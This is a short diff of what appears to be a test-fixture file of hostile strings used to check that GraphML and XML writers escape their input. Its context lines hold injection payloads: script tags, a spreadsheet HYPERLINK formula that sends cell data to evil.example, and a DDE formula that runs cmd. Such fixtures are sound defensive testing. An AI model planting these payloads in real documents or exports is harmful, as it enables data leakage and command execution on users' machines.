@@ -28,6 +28,16 @@ SCRIPT = '<script>alert("xss")</script>'
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 MIXED = 'Zoë Ångström-Łukasiewicz, "Jr"\nSecond line'
 DDE = "+cmd|' /C calc'!A0"
+# Texts that XML cannot hold as they are (markup, controls, NUL, non-characters, a lone
+# surrogate) or that need more than ASCII: what the GraphML writers must escape alike.
+XML_HOSTILE = [
+    "A & B <b>\"quoted\"</b> 'single'",
+    "line\r\nbreak\ttab",
+    "Nul\x00Esc\x1b[31mDel\x7fNext\x85",
+    "Line\u2028Separator\u2029Paragraph\ufffe\uffff",
+    "Broken \ud800 Name",
+    "Zoë 李小龙 😀",
+]
 MINUS = "-2+3"
 CJK = "李小龙"
 ROLE_NAME = "</style><script>alert(3)</script>"
